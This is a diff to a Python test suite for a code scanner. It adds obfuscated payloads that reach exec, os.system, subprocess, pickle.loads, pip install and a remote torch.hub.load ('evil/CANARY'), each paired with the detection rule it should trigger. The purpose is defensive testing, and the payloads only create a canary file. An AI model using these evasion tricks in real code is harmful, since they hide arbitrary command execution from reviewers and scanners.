@@ -146,7 +146,98 @@ PAYLOADS = {
         "CODE-SENSITIVE-WRITE",
         Severity.HIGH,
     ),
+    # Names spelled at run time, namespaces reached by subscript, callables passed by reference.
+    "getattr on __builtins__ with concatenation": (
+        "getattr(__builtins__, 'ex' + 'ec')(\"open('CANARY', 'w')\")\n",
+        "CODE-EXEC",
+        Severity.HIGH,
+    ),
+    "vars(builtins) subscript": (
+        "import builtins\nvars(builtins)['ev' + 'al'](\"open('CANARY', 'w')\")\n",
+        "CODE-EXEC",
+        Severity.HIGH,
+    ),
+    "globals builtins subscript": (
+        "globals()['__builtins__'].exec(\"open('CANARY', 'w')\")\n",
+        "CODE-EXEC",
+        Severity.HIGH,
+    ),
+    "import_module of concatenation": (
+        "import importlib\nimportlib.import_module('o' + 's').system('touch CANARY')\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "__import__ of a constant variable": (
+        "name = f\"{'sub'}process\"\n__import__(name).Popen(['touch', 'CANARY'])\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "sys.modules subscript": (
+        "import sys\nsys.modules['os'].system('touch CANARY')\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "posix alias of os": ("import posix\nposix.system('touch CANARY')\n", "CODE-SHELL", Severity.CRITICAL),
+    "callable rebound to a name": (
+        "import os\nrun = os.system\nrun('touch CANARY')\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "walrus-bound exec": ("(e := exec)(\"open('CANARY', 'w')\")\n", "CODE-EXEC", Severity.HIGH),
+    "bare decorator reference": (
+        "@__import__('os').system\ndef f():\n    pass\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "atexit registers os.system": (
+        "import atexit, os\natexit.register(os.system, 'touch CANARY')\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "thread target": (
+        "import os, threading\nthreading.Thread(target=os.system, args=('touch CANARY',)).start()\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "map over exec": ("list(map(exec, [\"open('CANARY', 'w')\"]))\n", "CODE-EXEC", Severity.HIGH),
+    "operator.methodcaller": (
+        "import operator, os\noperator.methodcaller('system', 'touch CANARY')(os)\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "pickle.loads of an embedded blob": (
+        "import base64, pickle\npickle.loads(base64.b64decode('Q0FOQVJZ'))\n",
+        "CODE-EXEC-OBFUSCATED",
+        Severity.CRITICAL,
+    ),
+    "pip.main installs at import": (
+        "import pip\npip.main(['install', 'CANARY'])\n",
+        "CODE-SHELL",
+        Severity.CRITICAL,
+    ),
+    "torch.hub.load imports remote code": (
+        "import torch\ntorch.hub.load('evil/CANARY', 'model', trust_repo=True)\n",
+        "CODE-NETWORK",
+        Severity.HIGH,
+    ),
 }
+
+
+def test_rebinding_a_constant_stops_folding_it(scan_bytes: ScanBytes) -> None:
+    source = (
+        "import importlib\nname = 'os'\nname = pick()\ndef f():\n    return importlib.import_module(name)\n"
+    )
+    report = scan_bytes(source.encode(), name="modeling_x.py")
+    assert [(f.rule, f.severity) for f in report.findings] == [("CODE-DYNAMIC-IMPORT", Severity.MEDIUM)]
+
+
+def test_harmless_callables_passed_by_reference_are_fine(scan_bytes: ScanBytes) -> None:
+    source = (
+        "import functools, logging, torch\nfrom torch import nn\nlogger = logging.getLogger(__name__)\n"
+        "act = nn.functional.gelu\nlist(map(str, range(3)))\nfunctools.partial(torch.matmul, out=None)\n"
+        "@functools.lru_cache\ndef f():\n    return sorted([1], key=len)\n"
+    )
+    assert not scan_bytes(source.encode(), name="modeling_x.py").findings
 
 
 @pytest.mark.parametrize("name", sorted(PAYLOADS))
